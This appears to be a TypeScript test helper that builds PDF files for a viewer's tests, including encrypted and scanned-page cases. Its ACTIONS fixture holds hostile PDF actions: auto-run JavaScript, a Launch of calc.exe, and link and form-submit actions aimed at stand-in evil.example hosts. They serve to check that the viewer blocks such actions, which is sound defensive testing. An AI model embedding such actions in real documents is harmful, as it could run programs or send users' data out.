// PDFs for tests: whole ones, and hostile ones.

export interface PdfFile {
  /** A line of text for each page. */
  readonly pages: readonly string[];
  /** Width and height of each page, as text. Default: half of a letter. */
  readonly size?: string;
  /** More keys of the catalog, such as an action at opening. */
  readonly catalog?: string;
  /** More keys of each page, such as links. */
  readonly page?: string;
  /** More keys of the trailer. */
  readonly trailer?: string;
  /** Instead of the content of the pages. */
  readonly content?: string;
  /** Instead of the fonts of the pages. */
  readonly resources?: string;
  /** More objects. Their numbers follow those of the pages. */
  readonly objects?: readonly string[];
  /** The count that the page tree claims. Default: the real count. */
  readonly count?: number;
}

export const pdfFile = (file: PdfFile): Uint8Array<ArrayBuffer> => {
  const { pages, size = "420 595", catalog = "", page = "", trailer = "" } = file;
  const { resources = "/Font << /F1 3 0 R >>", objects: more = [] } = file;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Count ${file.count ?? pages.length} /Kids [${pages.map((_, at) => `${4 + 2 * at} 0 R`).join(" ")}] >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...pages.flatMap((text, at) => {
      const content = file.content ?? `BT /F1 24 Tf 40 500 Td (${text}) Tj ET 40 300 200 100 re f`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${size}] /Contents ${5 + 2 * at} 0 R /Resources << ${resources} >> ${page} >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ];
    }),
    ...more,
  ];
  let text = "%PDF-1.4\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const table = text.length;
  text +=
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}` +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${table}\n%%EOF\n`;
  return Uint8Array.from(text, (character) => character.charCodeAt(0));
};

/** Needs a password: the empty password does not fit its keys. */
export const ENCRYPTED =
  `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"ab".repeat(32)}> /U <${"cd".repeat(32)}> >> ` +
  `/ID [<${"01".repeat(16)}> <${"01".repeat(16)}>]`;

/** What a page would do if a viewer let it: run scripts, open sites and programs, send forms. */
export const ACTIONS = {
  catalog:
    "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); globalThis.hacked = 1) >> " +
    "/AcroForm << /Fields [] /NeedAppearances true >>",
  page:
    "/AA << /O << /S /URI /URI (https://evil.example/open) >> >> /Annots [" +
    "<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /URI /URI (https://evil.example/link) >> >>" +
    "<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /Launch /F (calc.exe) >> >>" +
    "<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 99 99] /A << /S /SubmitForm /F (https://evil.example/form) >> >>]",
} as const;

const BLACK =
  "/0//UQApAAAAAAAIAAAACAAAAAAAAAAAAAAACAAAAAgAAAAAAAAAAAABBwEB/1IADAAAAAEAAAQEAAH/XAAEQED/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVH" +
  "IHZlcnNpb24gMi41LjT/kAAKAAAAAAAWAAH/k9+AKBFQVKNv/9k=";
const PICTURE = atob(BLACK);

/** A black picture in JPEG 2000, and Japanese text in a font that is not in the file: both need parts that pdf.js loads. */
export const SCAN: PdfFile = {
  pages: ["scan"],
  content: "q 400 0 0 400 10 10 cm /Im Do Q BT /F2 24 Tf 40 500 Td <65E5672C> Tj ET",
  resources: "/XObject << /Im 6 0 R >> /Font << /F2 7 0 R >>",
  objects: [
    "<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 " +
      `/Filter /JPXDecode /Length ${PICTURE.length} >>\nstream\n${PICTURE}\nendstream`,
    "<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /UniJIS-UCS2-H /DescendantFonts [8 0 R] >>",
    "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /DW 1000 /FontDescriptor 9 0 R " +
      "/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> >>",
    "<< /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 6 /FontBBox [-123 -257 1001 910] /ItalicAngle 0 /Ascent 709 /Descent -241 /CapHeight 709 /StemV 69 >>",
  ],
};
